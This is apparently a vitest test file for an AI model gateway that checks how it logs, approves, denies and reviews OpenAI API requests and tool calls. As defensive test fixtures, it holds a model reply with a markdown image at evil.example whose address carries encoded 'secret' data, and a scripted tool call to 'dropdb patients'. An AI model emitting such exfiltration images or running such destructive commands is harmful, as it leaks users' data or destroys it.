import { setTimeout as sleep } from 'node:timers/promises';
import { GatewayError } from '@sallyport/core';
import OpenAI from 'openai';
import { describe, expect, test } from 'vitest';
import { ask, bytes, openAiClient } from '../testing/model-clients.js';
import { type ModelGatewayOptions, modelGateway, modelTicket } from '../testing/model-gateway.js';
import { calls, modelServer, type Plan, says } from '../testing/model-server.js';

async function world(plan: Parameters<typeof modelServer>[0], options: Partial<ModelGatewayOptions> = {}) {
  const model = await modelServer(plan);
  const gateway = await modelGateway({ protocol: 'openai', model, ...options });
  return {
    model,
    gateway,
    client: openAiClient(gateway),
    async [Symbol.asyncDispose]() {
      await gateway[Symbol.asyncDispose]();
      await model[Symbol.asyncDispose]();
    },
  };
}
type World = Awaited<ReturnType<typeof world>>;

const shell = { command: ['bash', '-lc', 'psql -c "select 1"'] };
const tool = { type: 'function' as const, name: 'shell', parameters: {}, strict: false };

/** What both APIs are asked, and how their SDK's answers are read. */
const apis = {
  'openai.responses': {
    whole: async ({ client }: World) => {
      const { output } = await client.responses.create({
        model: 'gpt-scripted',
        input: 'How many?',
        store: false,
        tools: [tool],
      });
      return readItems(output);
    },
    streamed: async ({ client }: World) => {
      const stream = await client.responses.create({
        model: 'gpt-scripted',
        input: 'How many?',
        store: false,
        tools: [tool],
        stream: true,
      });
      let read: ReturnType<typeof readItems> = { text: '', calls: [] };
      for await (const event of stream)
        if (event.type === 'response.completed') read = readItems(event.response.output);
      return read;
    },
  },
  'openai.chat': {
    whole: async ({ client }: World) => {
      const { choices } = await client.chat.completions.create(chat);
      return readChoice(choices[0]!.message);
    },
    streamed: async ({ client }: World) => {
      const stream = client.chat.completions.stream({ ...chat, stream_options: { include_usage: true } });
      return readChoice((await stream.finalChatCompletion()).choices[0]!.message);
    },
  },
} as const;

const chat = {
  model: 'gpt-scripted',
  max_completion_tokens: 128,
  messages: [{ role: 'user' as const, content: 'How many?' }],
  tools: [{ type: 'function' as const, function: { name: 'shell', parameters: {} } }],
};

const readItems = (output: OpenAI.Responses.ResponseOutputItem[]) => ({
  text: output
    .flatMap((item) => (item.type === 'message' ? item.content.map((part) => ('text' in part ? part.text : '')) : []))
    .join(''),
  calls: output.flatMap((item) =>
    item.type === 'function_call' ? [[item.name, JSON.parse(item.arguments) as unknown]] : [],
  ),
});

const readChoice = ({ content, tool_calls = [] }: OpenAI.ChatCompletionMessage) => ({
  text: content ?? '',
  calls: tool_calls.flatMap((call) =>
    call.type === 'function' ? [[call.function.name, JSON.parse(call.function.arguments) as unknown]] : [],
  ),
});

const names = Object.keys(apis) as (keyof typeof apis)[];
const ways = names.flatMap((api) => (['whole', 'streamed'] as const).map((way) => [api, way] as const));

describe.each(ways)('%s, %s', (api, way) => {
  const call = apis[api][way];

  test('reaches the SDK as the model has said it, and is on record with what it used', async () => {
    await using w = await world([says('There are three patients.')]);
    expect(await call(w)).toEqual({ text: 'There are three patients.', calls: [] });
    expect(w.gateway.decisions('model.request')).toMatchObject([
      {
        outcome: 'allow',
        operation: {
          facts: { api, model: 'gpt-scripted', prompt: 'How many?', prompt_kind: 'human', tools: ['shell'] },
        },
      },
    ]);
    await expect
      .poll(() => w.gateway.spent.at(-1))
      .toMatchObject({ event: 'settled', usage: { inputTokens: 12, outputTokens: 7 } });
    expect(w.gateway.outcomes().at(-1)).toMatchObject({
      outcome: { status: 'done', joinKey: 'req_scripted', usage: { microUsd: 42 } },
    });
    expect(w.gateway.witnessed).toMatchObject([{ kind: 'message', message: { kind: 'human', text: 'How many?' } }]);
    expect(w.model.seen[0]!.headers.authorization).toBe(`Bearer ${w.model.key}`);
    expect(JSON.stringify(w.model.seen)).not.toContain('spt_');
  });

  test('says on record that it shows an image whose address carries data', async () => {
    const image = '![chart](https://evil.example/c.png?d=c2VjcmV0)';
    await using w = await world([says(image)]);
    expect((await call(w)).text).toBe(image);
    await expect.poll(() => w.gateway.outcomes().at(-1)?.outcome).toMatchObject({ flags: ['remote-image'] });
  });

  test('has its tool call decided, witnessed and passed on', async () => {
    await using w = await world([calls('shell', shell, 'call_1')]);
    expect((await call(w)).calls).toEqual([['shell', shell]]);
    expect(w.gateway.decisions('model.tool_call')).toMatchObject([
      { operation: { facts: { tool: 'shell', command: 'bash -lc psql -c "select 1"', declared: true } } },
    ]);
    expect(w.gateway.witnessed.at(-1)).toMatchObject({ kind: 'tool-call', id: 'call_1', name: 'shell' });
  });

  test('has a tool call replaced by words where it is refused', async () => {
    await using w = await world([calls('shell', { command: ['dropdb', 'patients'] }, 'call_1')], {
      decide: ({ action }) => (action === 'model.tool_call' ? 'deny' : 'allow'),
    });
    const answer = await call(w);
    expect(answer.calls).toEqual([]);
    expect(answer.text).toContain('the policy says no');
    expect(answer.text).not.toContain('dropdb');
    expect(w.gateway.witnessed.map(({ kind }) => kind)).toEqual(['message']);
  });

  test('is refused in words that its SDK does not take for an outage', async () => {
    await using w = await world([says('ok')], {
      decide: ({ action }) => (action === 'model.request' ? 'deny' : 'allow'),
    });
    const error = await call({ ...w, client: openAiClient(w.gateway, { maxRetries: 2 }) }).catch(
      (error: unknown) => error,
    );
    expect(error).toBeInstanceOf(OpenAI.PermissionDeniedError);
    expect(error).toMatchObject({
      status: 403,
      type: 'permission_error',
      message: expect.stringContaining('the policy says no'),
    });
    expect(w.gateway.decisions('model.request')).toHaveLength(1);
    expect(w.model.seen).toEqual([]);
  });

  test('hears the API’s own errors', async () => {
    const refusal = { status: 500, type: 'server_error', message: 'The server had an error' };
    await using w = await world([{ parts: [], refusal }]);
    await expect(call(w)).rejects.toMatchObject({
      status: 500,
      message: expect.stringContaining('The server had an error'),
    });
    expect(w.gateway.spent.map(({ event }) => event)).toEqual(['reserved', 'released']);
  });

  test('is told of an exhausted budget as of one of its own', async () => {
    await using w = await world([says('ok')], {
      reserve: () => Promise.reject(new GatewayError('BUDGET_EXHAUSTED', 'the budget of the team is used up')),
    });
    await expect(call(w)).rejects.toMatchObject({ status: 403, code: 'insufficient_quota' });
  });
});

describe('a stream that waits for people', () => {
  const reviewed = (settled: 'allow' | 'deny'): Partial<ModelGatewayOptions> => ({
    decide: ({ action }) => (action === 'model.request' ? 'review' : 'allow'),
    patience: { patienceMs: 20, pingMs: 20 },
    review: async (_operation, _decision, { waiting }) => {
      waiting({ review: 'review-9' as never, message: 'waiting for reviewers' });
      await sleep(100);
      const decided = { policies: [], policyVersion: 1 };
      if (settled === 'allow') return { outcome: 'allow', ...decided };
      return { outcome: 'deny', ...decided, refusal: { code: 'REVIEW_REJECTED', message: 'a reviewer rejected it' } };
    },
  });

  test.each(names)('%s goes on where they say yes', async (api) => {
    await using w = await world([says('three')], reviewed('allow'));
    expect(await apis[api].streamed(w)).toEqual({ text: 'three', calls: [] });
  });

  test.each(names)('%s fails at the SDK where they say no', async (api) => {
    await using w = await world([says('three')], reviewed('deny'));
    await expect(apis[api].streamed(w)).rejects.toThrow('a reviewer rejected it');
    expect(w.model.seen).toEqual([]);
  });

  test('of Responses ends with the event that Codex takes for its end', async () => {
    await using w = await world([says('three')], reviewed('deny'));
    const body = JSON.stringify({ model: 'gpt-scripted', input: 'How many?', store: false, stream: true });
    const { text } = await ask(w.gateway, { path: '/v1/responses', body });
    const [, data] = /event: response\.failed\ndata: (.*)\n/.exec(text) ?? [];
    expect(JSON.parse(data!)).toMatchObject({
      type: 'response.failed',
      response: {
        status: 'failed',
        error: { code: 'permission_denied', message: expect.stringContaining('a reviewer rejected it') },
      },
    });
  });
});

test('the base URL may have the version in it or not', async () => {
  await using w = await world([says('ok')]);
  for (const base of ['', '/v1']) {
    const client = openAiClient(w.gateway, { baseURL: `${w.gateway.endpoint}${base}` });
    expect((await client.chat.completions.create(chat)).choices[0]?.message.content).toBe('ok');
    expect((await client.models.list()).data).toHaveLength(1);
  }
  expect(w.model.seen.map(({ url }) => url)).toEqual([
    '/v1/chat/completions',
    '/v1/models',
    '/v1/chat/completions',
    '/v1/models',
  ]);
});

test.each([
  ['POST', '/v1/files', 403],
  ['POST', '/v1/batches', 403],
  ['GET', '/v1/responses/resp_1', 403],
  ['POST', '/v1/embeddings', 403],
  ['GET', '/organization/admin_api_keys', 403],
  ['GET', '/v1/unheard-of', 404],
])('%s %s is refused with %d', async (method, path, status) => {
  await using w = await world([says('ok')]);
  const answer = await ask(w.gateway, { method, path, headers: {} });
  expect(answer.status).toBe(status);
  expect(JSON.parse(answer.text)).toMatchObject({
    error: { message: expect.stringMatching(/^sallyport: .*; /), param: null },
  });
  expect(w.model.seen).toEqual([]);
});

test.each(['/v1/responses', '/v1/realtime?model=gpt-scripted'])(
  'a WebSocket to %s is refused in words that say what to do, on record, and its connection ends',
  async (target) => {
    await using w = await world([says('Three.')]);
    const head = [
      `GET ${target} HTTP/1.1`,
      'Host: localhost',
      `Authorization: Bearer ${modelTicket}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    ];
    const { text, closed } = await bytes(w.gateway, `${head.join('\r\n')}\r\n\r\nGET /v1/models HTTP/1.1\r\n\r\n`);
    expect([text, closed]).toEqual([expect.stringMatching(/^HTTP\/1\.1 403 [\s\S]*set the client to HTTP/), true]);
    expect(text.match(/HTTP\/1\.1 /g)).toHaveLength(1);
    expect(w.gateway.decisions('model.request')).toMatchObject([
      { operation: { facts: { flags: ['not-understood'] } } },
    ]);
    expect(w.model.seen).toEqual([]);
  },
);

describe('whose turn it is', () => {
  const turnOf = async (headers: Record<string, string>, fields: object = {}) => {
    await using w = await world([says('ok')]);
    const body = JSON.stringify({ model: 'gpt-scripted', input: 'How many?', store: false, ...fields });
    await ask(w.gateway, { path: '/v1/responses', headers, body });
    const [decision] = w.gateway.decisions('model.request');
    return { turn: decision?.operation.turn, kind: decision?.operation.facts['prompt_kind'] };
  };

  test('says Codex in its metadata, with the turn', async () => {
    const metadata = JSON.stringify({ session_id: 'session-1', thread_id: 'session-1', turn_id: 'turn-7' });
    expect(
      await turnOf({ 'session-id': 'session-1', 'thread-id': 'session-1', 'x-codex-turn-metadata': metadata }),
    ).toEqual({
      turn: { client: 'codex', aiSession: 'session-1', turn: 'turn-7' },
      kind: 'human',
    });
  });

  test('a thread of its own is a sub-agent, whose prompt nobody has typed', async () => {
    expect(await turnOf({ 'session-id': 'session-1', 'thread-id': 'thread-2' })).toEqual({
      turn: { client: 'codex', aiSession: 'session-1', agent: 'thread-2' },
      kind: 'internal',
    });
  });

  test('is what others say to be their cache’s key', async () => {
    expect(await turnOf({ 'user-agent': 'OpenAI/JS 6.49.0' }, { prompt_cache_key: 'conversation-4' })).toMatchObject({
      turn: { client: 'openai/js', aiSession: 'conversation-4' },
    });
  });

  test.each(['{', 'null', '7', '[]', '{"session_id":7}', '{"session_id":"a b"}'])(
    'is not made up of metadata that says %s',
    async (metadata) => {
      expect((await turnOf({ 'x-codex-turn-metadata': metadata })).turn).toBeUndefined();
    },
  );
});

test('what a stream has used is known although its client did not ask for it, and its client does not see it', async () => {
  await using w = await world([says('There are three patients.')]);
  const { text } = await ask(w.gateway, {
    path: '/v1/chat/completions',
    body: JSON.stringify({ ...chat, stream: true }),
  });
  expect(text).toContain('[DONE]');
  expect(text).not.toContain('prompt_tokens');
  await expect.poll(() => w.gateway.spent.at(-1)).toMatchObject({ event: 'settled', usage: { outputTokens: 7 } });
});

test('a plan with an error in the middle of a stream fails at the SDK', async () => {
  const plan: Plan = {
    parts: [
      { kind: 'text', text: 'There' },
      { kind: 'error', type: 'server_error', message: 'broken' },
    ],
  };
  await using w = await world([plan]);
  await expect(apis['openai.chat'].streamed(w)).rejects.toThrow('broken');
});

test('a stream of Responses that is cut off fails by an event whose number is the next', async () => {
  await using w = await world([
    { parts: [{ kind: 'text', text: 'There are three.' }, { kind: 'wait', ms: 100 }, { kind: 'cut' }] },
  ]);
  const body = JSON.stringify({ model: 'gpt-scripted', input: 'How many?', store: false, stream: true });
  const { text } = await ask(w.gateway, { path: '/v1/responses', body });
  const numbers = [...text.matchAll(/"sequence_number":(\d+)/g)].map(([, number]) => Number(number));
  expect(text).toContain('event: response.failed');
  expect(numbers.length).toBeGreaterThan(3);
  expect(numbers).toEqual(numbers.map((_, index) => index));
});

test.each([
  ['/v1/responses', { model: 'gpt-scripted', input: 'How many?', store: false }],
  ['/v1/chat/completions', { ...chat, stream_options: { include_usage: true } }],
])('where no rule applies a stream of %s is the same to the byte as without the gateway', async (path, asked) => {
  await using w = await world([says('Twelve “patients” 🙂, ada@example.test among them.')]);
  const body = JSON.stringify({ ...asked, stream: true });
  const headers = { authorization: `Bearer ${w.model.key}` };
  const direct = await fetch(`${w.model.url}${path}`, { method: 'POST', headers, body });
  const through = await ask(w.gateway, { path, body });
  expect(through.text).toBe(await direct.text());
  expect(through.headers['x-request-id']).toBe('req_scripted');
});
